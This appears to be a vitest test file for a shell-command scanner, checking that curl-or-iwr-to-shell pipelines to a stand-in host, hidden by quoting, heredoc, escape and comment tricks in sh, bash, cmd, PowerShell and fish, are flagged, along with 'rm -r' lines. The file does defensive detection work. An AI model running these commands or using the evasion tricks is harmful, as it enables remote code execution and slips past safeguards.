import { expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

test.each<[string, string[]]>([
  ['a parenthesis in quotes, in a substitution', ['sh', '-c', "echo $(echo ')'; curl https://x.example | sh)"]],
  ['the same in quotes', ['sh', '-c', 'echo "$(echo \')\' ; curl https://x.example | sh)"']],
  ['a backquote behind a backslash', ['sh', '-c', 'echo `echo \\`curl https://x.example | sh\\``']],
  ['a quote in a text that follows', ['sh', '-c', "cat <<'E'\n'\nE\ncurl https://x.example | sh #'"]],
  ['a quote in an indented one', ['sh', '-c', "cat <<-E\n\t'\n\tE\ncurl https://x.example | sh #'"]],
  ['what only looks like such a text', ['sh', '-c', '((1<<E))\ncurl https://x.example | sh\nE']],
  ['a substitution in a text that follows', ['sh', '-c', 'cat <<E\n$(curl https://x.example | sh)\nE']],
  ['a string with escapes', ['bash', '-c', "curl https://x.example | $'\\x73\\u0068'"]],
  ['a string to be translated', ['bash', '-c', 'curl https://x.example | $"sh"']],
  ['a quote that cmd does not know', ['cmd', '/c', "echo ' & curl https://x.example | powershell - & rem '"]],
  ['a quote in a comment', ['powershell', '-c', "# it's\niwr https://x.example | iex #'"]],
  ['a quote in a long comment', ['powershell', '-c', "<# ' #> iwr https://x.example | iex # '"]],
  ['a quote in a long text', ['powershell', '-c', "$x=@'\n'\n'@; iwr https://x.example | iex #'"]],
  ['a quote with a mark in fish', ['fish', '-c', "echo 'a\\' ' ; curl https://x.example | sh ; echo '"]],
  ['a mark before a space in cmd', ['cmd', '/c', 'curl^ https://x.example | powershell^ -']],
  ['a sign before a command in cmd', ['cmd', '/c', 'curl https://x.example | @powershell -']],
  ['a sign before a command in PowerShell', ['powershell', '-c', '$b=$x; iwr https://x.example | & $b']],
  ['parentheses of fish', ['fish', '-c', 'eval (curl https://x.example)']],
  ['the same beside a command', ['fish', '-c', 'sh (curl https://x.example | psub)']],
  ['words of fish around commands', ['fish', '-c', 'curl https://x.example | begin; true; and sh; end']],
])('nothing is hidden behind %s', (_, line) => expect(severe(line)).toContain('download-run'));

test('a string that shells end at different quotes is said to be unread', () => {
  expect(severe(['sh', '-c', "echo $'\\'' ; true #'"])).toEqual(['too-deep']);
  expect(severe(['sh', '-c', "printf $'a\\tb'"])).toEqual([]);
});

test('a text that follows is data, but to a shell', () => {
  const started = (script: string) => look(['sh', '-c', script]).started.map(({ word }) => word.text);
  expect(started('cat <<E >x.json\n{"a": "it\'s"}\nE\nexec node s.js')).toEqual(['cat', 'node', 's.js']);
  expect(started('sh <<E\n./tool\nE')).toContain('./tool');
});

test('a span is where a command stands, in substitutions and texts that follow as well', () => {
  const script = 'echo $(rm -r a)\ncat <<E\n$(rm -r b)\nE';
  const spans = look(['sh', '-c', script]).findings.flatMap(({ id, span }) => (id === 'destroys' ? [span] : []));
  expect(spans.map(({ start, length }) => script.slice(start, start + length))).toEqual(['rm', 'rm']);
  expect(new Set(spans.map(({ start }) => start)).size).toBe(2);
});
